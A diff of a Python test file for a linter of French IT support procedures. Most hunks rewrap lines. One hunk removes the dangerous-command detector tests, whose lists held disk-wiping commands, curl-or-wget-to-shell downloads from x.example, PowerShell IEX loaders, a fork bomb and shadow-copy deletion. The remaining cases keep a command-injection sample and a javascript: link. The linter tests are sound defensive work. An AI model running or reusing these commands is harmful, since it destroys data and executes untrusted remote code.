@@ -10,8 +10,6 @@ import pytest
 from compagnon.i18n import Catalogues
 from procedures.format import Known, Severity, lint, publishable
 from procedures.format.lint import RULES
-from procedures.format.rules.commands import danger
-from procedures.format.rules.wording import is_imperative, second_action
 
 ROOT = Path(__file__).parents[3]
 DOCS = (ROOT / "docs" / "reference" / "procedure-format.md").read_text(encoding="utf-8")
@@ -110,14 +108,16 @@ CASES = [
     ("section-known", "## Résultat", "## Bilan", "## Bilan"),
     ("section-known", "## Résultat", "## Result", "## Result"),
     ("section-known", "## Résultat", "## Conformité\n\n## Résultat", "## Conformité"),
-    ("section-missing", "## Résultat\n\nLe client imprime.\n\n- check: {service: {cups: {running: true}}}\n", "", None),
+    ("section-missing", "## Résultat\n\nLe client imprime.\n\n- check: {service: {cups: {running: true}}}\n", "",
+     None),
     ("section-missing", "Suivez cette procédure quand rien ne s'imprime.\n", "", None),
     ("section", "## Résultat", "## Étapes\n\n## Résultat", None),
     ("section", "## Étapes\n", "## Étapes\n\nUn texte perdu.\n", "Un texte perdu."),
     ("heading-level", "Le client imprime.", "# Le client imprime.", "# Le client imprime."),
     ("step-heading", "### s1: V", "### V", "### Vérifiez que l'imprimante répond {importance=required}"),
     ("step-id", "### s2:", "### s1:", "### s1: Sur le poste, ouvrez la liste des imprimantes {importance=optional}"),
-    ("step-id", "### s2:", "### result:", "### result: Sur le poste, ouvrez la liste des imprimantes {importance=optional}"),
+    ("step-id", "### s2:", "### result:",
+     "### result: Sur le poste, ouvrez la liste des imprimantes {importance=optional}"),
     ("importance", " {importance=optional}", "", "### s2: Sur le poste, ouvrez la liste des imprimantes"),
     ("attributes", "importance=optional", "importance=peut-être", None),
     ("attributes", "importance=optional", "place=ici", None),
@@ -126,7 +126,8 @@ CASES = [
     ("imperative", "### s2: Sur le poste, ouvrez", "### s2: Sur le poste, la liste ouvre", None),
     ("one-action", "ouvrez la liste des imprimantes", "ouvrez la liste et cliquez sur l'imprimante", None),
     ("one-action", "- stepresult: Deux", "```sh {run_on=agent}\nls\n```\n\n- stepresult: Deux", None),
-    ("sentence-length", "Deux réponses arrivent.", " ".join(["mot"] * 21) + ".", "- stepresult: " + " ".join(["mot"] * 21) + "."),
+    ("sentence-length", "Deux réponses arrivent.", " ".join(["mot"] * 21) + ".",
+     "- stepresult: " + " ".join(["mot"] * 21) + "."),
     ("goto", "goto: s1", "goto: s9", None),
     ("goto", "{goto: s1, max: 1, then", "{goto: s1, then", None),
     ("goto", "max: 1", "max: 99", None),
@@ -140,8 +141,10 @@ CASES = [
     ("field", "- stepresult: Deux réponses arrivent.", "- stepresult:", "- stepresult:"),
     ("field", "- stepresult: Deux réponses arrivent.\n- check: {service: {cups: {running: true}}}\n- on",
      "- stepresult: Deux réponses arrivent.\n\nUn texte après.\n\n- on", None),
-    ("check", "- check: {service: {cups: {running: true}}}\n- on", "- check: {servive: {cups: {running: true}}}\n- on", None),
-    ("check", "- check: {service: {cups: {running: true}}}\n- on", "- check: {service: {cups: {run: true}}}\n- on", None),
+    ("check", "- check: {service: {cups: {running: true}}}\n- on",
+     "- check: {servive: {cups: {running: true}}}\n- on", None),
+    ("check", "- check: {service: {cups: {running: true}}}\n- on", "- check: {service: {cups: {run: true}}}\n- on",
+     None),
     ("check", "- check: {service: {cups: {running: true}}}\n- on", "- check: [a]\n- on", None),
     ("fence", "timeout=30", "timeout=long", "```sh {run_on=agent timeout=long}"),
     ("fence", "run_on=agent", "run_on=robot", "```sh {run_on=robot timeout=30}"),
@@ -154,7 +157,8 @@ CASES = [
     ("timeout", "timeout=30", "timeout=0", "```sh {run_on=agent timeout=0}"),
     ("dangerous", "ping -c 2 {{ip}}", "ping -c 2 {{ip}}; rm -rf /", None),
     ("parameter-declared", "ping -c 2 {{ip}}", "ping -c {{nombre}} {{ip}}", None),
-    ("parameter-used", "ping -c 2 {{ip}}", "ping -c 2 192.0.2.1", '  ip: {type: ipv4, required: true, label: "Adresse de l\'imprimante"}'),
+    ("parameter-used", "ping -c 2 {{ip}}", "ping -c 2 192.0.2.1",
+     '  ip: {type: ipv4, required: true, label: "Adresse de l\'imprimante"}'),
     ("parameter-valid", "required: true,", "required: true, default: imprimante,", None),
     ("parameter-valid", ', label: "Adresse de l\'imprimante"', "", None),
     ("parameter-valid", "type: ipv4", "type: choice", None),
@@ -164,14 +168,17 @@ CASES = [
     ("placeholder", "ping -c 2 {{ip}}", "ping -c 2 {{ip}} # {{ip}}", None),
     ("placeholder", "ping -c 2 {{ip}}", "ping -c 2 {{ip}}\necho {{ IP }}", "echo {{ IP }}"),
     ("placeholder", "```sh {run_on", "```cmd {run_on", None),
-    ("placeholder", "- check: {service: {cups: {running: true}}}\n- on", "- check: {command: {\"ping '{{ip}}'\": {exit-status: 0}}}\n- on", None),
+    ("placeholder", "- check: {service: {cups: {running: true}}}\n- on",
+     "- check: {command: {\"ping '{{ip}}'\": {exit-status: 0}}}\n- on", None),
     ("picture", "![Le voyant vert]", "![]", "![](media/voyant.png)"),
-    ("picture", "media/voyant.png", "https://ailleurs.example/voyant.png", "![Le voyant vert](https://ailleurs.example/voyant.png)"),
+    ("picture", "media/voyant.png", "https://ailleurs.example/voyant.png",
+     "![Le voyant vert](https://ailleurs.example/voyant.png)"),
     ("link", "procedure:dir-001", "javascript:alert(1)", "Notez le modèle dans la [fiche](javascript:alert(1))."),
     ("note", "Le client imprime.", "> [!DANGEREUX]\n> Attention.", "> [!DANGEREUX]"),
     ("characters", "Le client imprime.", "Le client \u202eimprime.", "Le client \u202eimprime."),
     ("size", "Le client imprime.", "x" * 400_001, None),
-    ("manifest", "ping -c 2 {{ip}}\n```\n", "ping -c 2 {{ip}}\n```\n" + ("```sh\n" + "# ééééééé\n" * 1600 + "```\n\n") * 12, None),
+    ("manifest", "ping -c 2 {{ip}}\n```\n",
+     "ping -c 2 {{ip}}\n```\n" + ("```sh\n" + "# ééééééé\n" * 1600 + "```\n\n") * 12, None),
 ]  # fmt: skip
 ENVIRONMENT_CASES = [
     ("stepresult", "- check: {service: {cups: {running: true}}}\n", "", None),
@@ -237,7 +244,11 @@ def test_rules_are_documented():
 
 
 def test_references_are_resolved_when_they_are_known():
-    known = {"procedures": {"imp-001", "net-003", "dir-001"}, "skills": {"reseau", "impression"}, "environments": {"poste-debian-12"}}
+    known = {
+        "procedures": {"imp-001", "net-003", "dir-001"},
+        "skills": {"reseau", "impression"},
+        "environments": {"poste-debian-12"},
+    }
     assert lint(GOOD, known=Known(**known)) == ()
     assert rules(GOOD, **(known | {"procedures": {"imp-001", "net-003"}})) == {"reference"}
     assert rules(GOOD, **(known | {"skills": set()})) == {"reference"}
@@ -261,105 +272,23 @@ def test_a_dangerous_command_is_advice_once_the_risk_is_high():
     assert publishable(lint(text))
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        "rm -rf /", "rm -rf /*", "sudo rm -fr --no-preserve-root /", "rm -r -f /etc", "rm -rf ~", "rm -rf $HOME", "rm -rf -- /usr/",
-        "rm --recursive --force /var", "rm -rf /tmp/a /", "mkfs.ext4 /dev/sdb1", "mkfs -t ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda bs=1M",
-        "cat x > /dev/sda", "curl https://x.example/i.sh | sh", "curl -fsSL https://x.example | sudo bash", "wget -qO- x.example | sudo -E bash -",
-        "bash <(curl -s https://x.example)", 'sh -c "$(curl -fsSL https://x.example)"', "eval $(curl x.example)", "curl x | \\\n sh",
-        "curl x.example | python3", "chmod -R 777 /", "chown -R nobody /etc", "find / -name x -delete", "find /var -exec rm {} +", ":(){ :|:& };:",
-        "wipefs -a /dev/sda", "shred -n1 /dev/sda", "iptables -F", "userdel camille", "iwr https://x.example | iex", "irm x.example | Invoke-Expression",
-        "IEX (New-Object Net.WebClient).DownloadString('x')", "Format-Volume -DriveLetter D", "diskpart /s x.txt", "Remove-Item -Recurse C:\\",
-        "del /s /q C:\\Windows\\*", "rd /s /q C:\\Users", "reg delete HKLM\\SOFTWARE /f", "vssadmin delete shadows /all", "format d:", "rm -rf .", "rm -rf *",
-    ],
-)  # fmt: skip
-def test_dangers_are_seen(script):
-    assert danger(script)
-
-
-@pytest.mark.parametrize(
-    "script",
-    [
-        "rm -f /var/spool/cups/d00001", "rm -rf /tmp/essai", "rm -rf /var/cache/apt/archives/partial", "ls /", "dd if=/dev/sda of=/dev/null",
-        "curl -o fichier https://x.example", "curl https://x.example | grep sh", "chmod 640 /etc/cups/cupsd.conf", "chmod -R g+w /srv/partage/compta",
-        "find /var/log -name '*.gz' -print", "# rm -rf /", "echo firmware", "systemctl restart cups", "apt-get install -y cups", "reg query HKLM\\SOFTWARE",
-        "Remove-Item -Path C:\\ProgramData\\Temp\\essai.txt", "Get-Process | Format-Table", "df -h /", "rm /home/camille/.cache/x", "information d: ok",
-    ],
-)  # fmt: skip
-def test_ordinary_commands_are_not_dangers(script):
-    assert danger(script) is None
-
-
-@pytest.mark.parametrize(
-    "title",
-    [
-        "Ouvrez le menu", "Vérifiez que l'imprimante répond", "Sur le serveur, ouvrez la console", "Si le voyant est rouge, éteignez l'imprimante",
-        "Faites un clic droit", "Dites au client d'attendre", "Ne redémarrez pas le poste", "N'éteignez pas l'écran", "Reconnectez-vous",
-        "Sur le poste du client : ouvrez le menu", "Lorsque le poste, ou l'écran, est éteint, allumez-le", "Demandez au client s'il voit l'icône",
-        "À l'invite, saisissez le mot de passe", "S'il manque du papier, ajoutez-en", "Après le redémarrage, attendez une minute", "Soyez patient",
-        "Défaites le lien", "Réinstallez `cups`", "Une fois connecté, cherchez « Imprimantes »",
-    ],
-)  # fmt: skip
-def test_french_imperatives(title):
-    assert is_imperative(title, "fr")
-
-
-@pytest.mark.parametrize(
-    "title",
-    [
-        "Ouverture du menu", "Ouvrir le menu", "Le technicien ouvre le menu", "Vous ouvrez le menu", "Menu", "Chez le client", "Assez de papier",
-        "Sur le serveur", "Sur le serveur, la console s'ouvre", "Avez-vous ouvert le menu ?", "L'imprimante, vérifiez-la", "Nez", "",
-    ],
-)  # fmt: skip
-def test_french_titles_that_are_not_imperatives(title):
-    assert not is_imperative(title, "fr")
-
-
-@pytest.mark.parametrize(
-    "title",
-    ["Open the menu", "On the server, open the console", "If the light is red, turn the printer off", "Do not restart the machine",
-     "Don't close the window", "Never unplug it", "Double-click the icon", "After the restart: wait a minute", "`cups`", "Ask the client"],
-)  # fmt: skip
-def test_english_imperatives(title):
-    assert is_imperative(title, "en") is not (title == "`cups`")
-
-
-@pytest.mark.parametrize("title", ["Opening the menu", "The menu opens", "You open the menu", "Printer check", "On the server", "Menu"])
-def test_english_titles_that_are_not_imperatives(title):
-    assert not is_imperative(title, "en")
-
-
-@pytest.mark.parametrize(
-    ("title", "locale", "verb"),
-    [
-        ("Ouvrez le menu et cliquez sur Imprimer", "fr", "cliquez"),
-        ("Ouvrez le menu, puis cliquez sur Imprimer", "fr", "cliquez"),
-        ("Ouvrez le menu, cliquez sur Imprimer", "fr", "cliquez"),
-        ("Ouvrez le menu. Puis fermez-le", "fr", "fermez-le"),
-        ("Sur le poste, ouvrez le menu", "fr", None),
-        ("Vérifiez le papier et l'encre", "fr", None),
-        ("Demandez si vous pouvez entrer", "fr", None),
-        ("Vérifiez que vous voyez le menu et que vous pouvez cliquer", "fr", None),
-        ("Lancez `cd /tmp; faites`", "fr", None),
-        ("Open the menu and click the icon", "en", "click"),
-        ("Open the menu, then select a printer", "en", "select"),
-        ("Open the start and stop menu", "en", None),
-        ("On the server, open the console", "en", None),
-        ("Check the paper and the ink", "en", None),
-    ],
-)
-def test_second_actions(title, locale, verb):
-    assert second_action(title, locale) == verb
-
-
 def test_sentences_are_counted_as_people_read_them():
     twenty = "Mot" + " mot" * 19
-    for text in (f"{twenty}. {twenty}.", f"{twenty} :", f"{twenty} `un deux trois`".replace("mot ", "", 1), f"* {twenty}\n* {twenty}",
-                 f"{twenty} !\n{twenty}", f"| {twenty} | {twenty} |\n|---|---|\n| a | b |", f"> {twenty}.\n> {twenty}."):  # fmt: skip
+    for text in (f"{twenty}. {twenty}.", f"{twenty} :", f"{twenty} `un deux trois`".replace("mot ", "", 1),
+    f"* {twenty}\n* {twenty}",
+                 f"{twenty} !\n{twenty}", f"| {twenty} | {twenty} |\n|---|---|\n| a | b |",
+                 f"> {twenty}.\n> {twenty}."):  # fmt: skip
         assert "sentence-length" not in rules(GOOD.replace("Le client imprime.", text)), text
-    for text in (f"{twenty} mot.", f"{twenty}\nmot", f"* {twenty} mot", f"> {twenty}\n> mot", f"[{twenty} mot](procedure:a)"):
-        found = [finding for finding in lint(GOOD.replace("Le client imprime.", text)) if finding.rule == "sentence-length"]
+    for text in (
+        f"{twenty} mot.",
+        f"{twenty}\nmot",
+        f"* {twenty} mot",
+        f"> {twenty}\n> mot",
+        f"[{twenty} mot](procedure:a)",
+    ):
+        found = [
+            finding for finding in lint(GOOD.replace("Le client imprime.", text)) if finding.rule == "sentence-length"
+        ]
         assert len(found) == 1, text
 
 
